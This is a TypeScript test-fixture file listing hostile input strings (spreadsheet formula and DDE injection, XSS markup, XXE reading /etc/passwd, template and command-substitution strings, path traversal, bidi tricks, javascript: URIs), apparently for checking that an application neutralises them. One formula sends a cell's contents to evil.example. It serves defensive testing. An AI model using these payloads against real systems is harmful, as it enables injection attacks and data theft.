/** Texts that some program along the way might take for more than text. */

export type HostileText = {
  /** Stands in every form of the text that may be printed: by it the text is found again. */
  readonly mark: string
  readonly text: string
}

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/"&A1,"xem")',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '%0A=1+1',
  "'=1+1",
  '"=1+1"',
  'a","=1+1","b',
  'a\r\n=1+1,b',
  'a;=1+1;b',
]

const MARKUP = [
  '<script>window.hostile=1</script>',
  '<img src=x onerror="window.hostile=1">',
  '<svg onload=window.hostile=1>',
  '"><script>window.hostile=1</script>',
  "' onmouseover='window.hostile=1",
  '</style><script>window.hostile=1</script>',
  '</title></textarea></noscript><iframe src="javascript:window.hostile=1">',
  '<a href="javascript:window.hostile=1">xem</a>',
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  '<base href="http://evil.example/">',
  '<link rel=stylesheet href=http://evil.example/a.css>',
  '<style>@import "http://evil.example/a.css"</style>',
  '<form action=http://evil.example/><input name=a>',
  '<!-- ',
  '--><script>window.hostile=1</script>',
  '&lt;script&gt;',
  '&#60;script&#62;',
  '&amp;nbsp;&',
  '[xem](javascript:window.hostile=1)',
  '![](http://evil.example/a.png)',
]

const DOCUMENTS = [
  '{ INCLUDETEXT "C:\\\\Windows\\\\win.ini" }',
  '{DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}',
  '\u0013 DDEAUTO cmd \u0014\u0015',
  '</w:t></w:r><w:r><w:fldSimple w:instr="DDEAUTO cmd"/></w:r><w:r><w:t>',
  ']]><w:p/><![CDATA[',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
  '<?xml version="1.0"?><?php system("id") ?>',
  '_x000D_ _x0041_',
  'nhiễu\u0000 \u0001 \u0008 \u000b \u000c \u001b \u007f \u0085 \ufffe \uffff',
  'nửa \ud800 chữ',
  '\udc00 nửa chữ',
  '\ufeffcó dấu đầu',
  '{unit.code} {unit.slug} {meeting.name} ${process.exit()} #{1+1}',
  '{{constructor.constructor("window.hostile=1")()}}',
  '%s %n %d %PATH% $(id) `id`',
  '__proto__',
  'constructor',
]

const DIRECTIONS = [
  'Trần \u202eaN năV\u202c',
  '\u2066Lê\u2069 \u2067Văn\u2068',
  'ẩn\u200b\u200c\u200d\u2060\u00ad',
  'שלום مرحبا',
]

const PATHS = [
  '../../../../etc/passwd',
  '..\\..\\Windows\\win.ini',
  'C:\\Windows\\win.ini',
  '\\\\evil.example\\share\\a',
  '/etc/passwd',
  'file:///etc/passwd',
  'CON',
  'NUL.xlsx',
  'aux',
  'COM1.docx',
  'LPT9 ',
  '...',
  'a/b\\c:d*e?f"g<h>i|j',
  'tên. ',
]

const ADDRESSES = [
  'javascript:window.hostile=1',
  ' JaVaScRiPt:window.hostile=1',
  'data:text/html,<script>window.hostile=1</script>',
  'vbscript:msgbox(1)',
  'file://evil.example/share',
  'http://evil.example/"onmouseover="window.hostile=1',
  'https://evil.example@tinhuy.example/',
  'ms-word:ofe|u|http://evil.example/a.docx',
  'zalo://evil',
]

const LONG = ['Ủ'.repeat(180), 'đồng chí '.repeat(20), '\u0301'.repeat(150)]

/** Each with a mark of its own at its end, so that the beginning stays what makes it hostile. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...FORMULAS,
  ...MARKUP,
  ...DOCUMENTS,
  ...DIRECTIONS,
  ...PATHS,
  ...ADDRESSES,
  ...LONG,
].map((text, index) => {
  const mark = `Zq${String(index + 1).padStart(3, '0')}z`
  return { mark, text: `${text}${mark}` }
})

export const HOSTILE_ADDRESSES: readonly string[] = ADDRESSES
